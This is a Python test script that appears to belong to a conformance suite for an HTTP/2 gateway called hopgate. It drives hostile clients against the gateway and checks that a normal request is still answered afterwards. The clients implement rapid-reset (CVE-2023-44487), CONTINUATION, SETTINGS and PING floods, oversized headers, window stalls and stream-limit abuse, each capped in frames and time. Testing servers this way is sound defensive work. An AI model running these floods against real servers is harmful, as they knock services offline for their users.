"""Hostile HTTP/2 clients, written with the python `h2`/`hyperframe`/`hpack`
stack (not hopgate's own h2), for hopgate's conformance test.

  h2_abuse.py CASE HOST:PORT  -> runs one case against the gateway and prints
                                 one JSON object: what the abusive connection
                                 saw, and whether a well-behaved request on a
                                 fresh connection was answered afterwards.

Every case is bounded in frames sent and in time (socket timeouts), and stops
by itself.
"""
import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(addr, timeout=10.0):
    host, port = addr.rsplit(":", 1)
    s = socket.create_connection((host, int(port)), timeout=timeout)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def request_headers(addr, path="/", extra=()):
    return [
        (":method", "GET"),
        (":scheme", "http"),
        (":authority", addr),
        (":path", path),
    ] + list(extra)


def well_behaved(addr):
    """One GET on a fresh connection: its status, or the error."""
    try:
        s = connect(addr, timeout=10.0)
        c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        c.initiate_connection()
        c.send_headers(1, request_headers(addr), end_stream=True)
        s.sendall(c.data_to_send())
        status = None
        deadline = time.time() + 10
        while time.time() < deadline:
            data = s.recv(65536)
            if not data:
                break
            for ev in c.receive_data(data):
                if isinstance(ev, h2.events.ResponseReceived):
                    status = int(dict(ev.headers)[b":status"])
                if isinstance(ev, h2.events.DataReceived):
                    c.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                if isinstance(ev, h2.events.StreamEnded):
                    s.close()
                    return status
            s.sendall(c.data_to_send())
        s.close()
        return status
    except OSError as e:
        return "error: %s" % e


def frames(s, seconds, state):
    """Yields the server's frames as (type, flags, stream id, payload) for up
    to `seconds`; sets state["closed"] when the connection ends."""
    s.settimeout(0.5)
    buf = b""
    deadline = time.time() + seconds
    while time.time() < deadline:
        try:
            data = s.recv(65536)
        except socket.timeout:
            yield None
            continue
        except OSError:
            state["closed"] = True
            return
        if not data:
            state["closed"] = True
            return
        state["bytes"] = state.get("bytes", 0) + len(data)
        buf += data
        # Whole frames: a 9-byte header, then the payload.
        while len(buf) >= 9:
            length = int.from_bytes(buf[0:3], "big")
            if len(buf) < 9 + length:
                break
            ftype, flags = buf[3], buf[4]
            sid = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
            yield ftype, flags, sid, buf[9 : 9 + length]
            buf = buf[9 + length :]


def drain(s, seconds):
    """Reads what the server sends for up to `seconds`; returns the GOAWAY
    error code if one came, whether the connection was closed, bytes read,
    and the RST_STREAM codes seen."""
    state = {"closed": False, "bytes": 0}
    goaway = None
    rsts = []
    for f in frames(s, seconds, state):
        if f is None:
            if goaway is not None:
                break
            continue
        ftype, _, _, payload = f
        if ftype == 0x7 and len(payload) >= 8:
            goaway = int.from_bytes(payload[4:8], "big")
        if ftype == 0x3 and len(payload) >= 4:
            rsts.append(int.from_bytes(payload[0:4], "big"))
    return {"goaway": goaway, "closed": state["closed"], "bytes": state["bytes"], "rst": rsts[:20]}


def raw_start(addr, settings=None):
    s = connect(addr)
    s.sendall(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())
    return s


def case_rapid_reset(addr):
    """CVE-2023-44487: open and reset streams as fast as possible."""
    s = raw_start(addr)
    enc = Encoder()
    sent = 0
    try:
        for i in range(20000):
            sid = 1 + 2 * i
            hf = HeadersFrame(sid, enc.encode(request_headers(addr)), flags=["END_HEADERS", "END_STREAM"])
            s.sendall(hf.serialize() + RstStreamFrame(sid, error_code=8).serialize())
            sent += 1
    except OSError:
        pass
    out = drain(s, 5)
    out["sent"] = sent
    return out


def case_continuation_flood(addr):
    """CVE-2024-27316 and friends: a header block that never ends."""
    s = raw_start(addr)
    enc = Encoder()
    block = enc.encode(request_headers(addr))
    sent = 0
    try:
        s.sendall(HeadersFrame(1, block, flags=["END_STREAM"]).serialize())
        chunk = enc.encode([("x-filler", "a" * 1000)])
        for _ in range(20000):  # up to ~20 MB of CONTINUATION
            s.sendall(ContinuationFrame(1, chunk).serialize())
            sent += 1
    except OSError:
        pass
    out = drain(s, 5)
    out["sent"] = sent
    return out


def case_settings_flood(addr):
    """SETTINGS frames without reading the ACKs."""
    s = raw_start(addr)
    sent = 0
    try:
        frame = SettingsFrame(0, settings={h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 100}).serialize()
        for _ in range(50000):
            s.sendall(frame)
            sent += 1
    except OSError:
        pass
    out = drain(s, 5)
    out["sent"] = sent
    return out


def case_ping_flood(addr):
    """PINGs without reading the ACKs."""
    s = raw_start(addr)
    sent = 0
    try:
        for i in range(100000):
            s.sendall(PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize())
            sent += 1
    except OSError:
        pass
    out = drain(s, 5)
    out["sent"] = sent
    return out


def case_oversized_headers(addr):
    """One request with a header list far above the gateway's limit, then a
    normal request on the same connection: the big one must be refused on
    its own stream, and the connection must stay usable."""
    s = raw_start(addr)
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    c.initiate_connection()
    c.data_to_send()  # the preface and SETTINGS already went raw
    enc = Encoder()
    big = enc.encode(request_headers(addr) + [("x-big-%d" % i, "v" * 1000) for i in range(int(sys.argv[3]) // 1000)])
    # Split into frames of at most 16 KiB (the default max frame size).
    chunks = [big[i : i + 16384] for i in range(0, len(big), 16384)]
    out = HeadersFrame(1, chunks[0], flags=["END_STREAM"] + (["END_HEADERS"] if len(chunks) == 1 else []))
    data = out.serialize()
    for i, f in enumerate(chunks[1:], 1):
        data += ContinuationFrame(1, f, flags=["END_HEADERS"] if i == len(chunks) - 1 else []).serialize()
    small = HeadersFrame(3, enc.encode(request_headers(addr)), flags=["END_HEADERS", "END_STREAM"])
    s.sendall(data + small.serialize())
    # Read frames: what happened to stream 1, and to stream 3.
    result = {"stream1": None, "stream3": None, "goaway": None}
    dec = Decoder()
    dec.max_allowed_table_size = 65536
    for f in frames(s, 10, {}):
        if result["stream3"] is not None and result["stream1"] is not None:
            break
        if f is None:
            continue
        ftype, flags, sid, payload = f
        key = "stream%d" % sid
        if ftype == 0x1:  # HEADERS
            block = payload
            if flags & 0x8:  # PADDED
                block = block[1 : len(block) - payload[0]]
            if flags & 0x20:  # PRIORITY
                block = block[5:]
            st = dict(dec.decode(block)).get(":status")
            if key in result and st is not None:
                result[key] = int(st)
        elif ftype == 0x3 and key in result and result[key] is None:  # RST_STREAM
            result[key] = "rst:%d" % int.from_bytes(payload[0:4], "big")
        elif ftype == 0x7:
            result["goaway"] = int.from_bytes(payload[4:8], "big")
        elif ftype == 0x4 and not (flags & 0x1):
            s.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
    s.close()
    return result


def case_zero_window(addr, path):
    """A client that advertises a zero window and never opens it: the
    gateway must not hold the stream (and its upstream) forever."""
    s = raw_start(addr, settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    enc = Encoder()
    started = time.time()
    s.sendall(HeadersFrame(1, enc.encode(request_headers(addr, path)), flags=["END_HEADERS", "END_STREAM"]).serialize())
    out = drain(s, 20)
    # How long the gateway kept the stalled stream (and its connection).
    out["elapsed"] = round(time.time() - started, 3)
    return out


def case_stall_after_served(addr, path):
    """A client that is served a few small responses first (with window to
    spare), then asks for a large one on the same connection and never
    grants window again: the stall limit must close the connection all the
    same. Returns how many small responses ended, and the stall's outcome."""
    s = raw_start(addr)
    enc = Encoder()
    state = {"closed": False, "bytes": 0}
    served = 0
    for i in range(3):
        sid = 1 + 2 * i
        s.sendall(HeadersFrame(sid, enc.encode(request_headers(addr, "/small")), flags=["END_HEADERS", "END_STREAM"]).serialize())
        for f in frames(s, 10, state):
            if f is not None and f[2] == sid and f[0] in (0x0, 0x1) and f[1] & 0x1:
                served += 1
                break
    started = time.time()
    s.sendall(HeadersFrame(7, enc.encode(request_headers(addr, path)), flags=["END_HEADERS", "END_STREAM"]).serialize())
    out = drain(s, 20)
    out["elapsed"] = round(time.time() - started, 3)
    out["served"] = served
    return out


def case_stream_limit(addr, path):
    """More concurrent streams than the server allows: the excess is refused
    (REFUSED_STREAM) or the connection ends; never unbounded."""
    s = raw_start(addr)
    enc = Encoder()
    data = b""
    for i in range(1000):
        sid = 1 + 2 * i
        data += HeadersFrame(sid, enc.encode(request_headers(addr, path)), flags=["END_HEADERS", "END_STREAM"]).serialize()
    try:
        s.sendall(data)
    except OSError:
        pass
    out = drain(s, 5)
    return out


CASES = {
    "rapid_reset": case_rapid_reset,
    "continuation_flood": case_continuation_flood,
    "settings_flood": case_settings_flood,
    "ping_flood": case_ping_flood,
    "oversized_headers": case_oversized_headers,
}

if __name__ == "__main__":
    case, addr = sys.argv[1], sys.argv[2]
    if case == "zero_window":
        seen = case_zero_window(addr, sys.argv[3])
    elif case == "stall_after_served":
        seen = case_stall_after_served(addr, sys.argv[3])
    elif case == "stream_limit":
        seen = case_stream_limit(addr, sys.argv[3])
    else:
        seen = CASES[case](addr)

    print(json.dumps({"case": case, "seen": seen, "after": well_behaved(addr)}), flush=True)
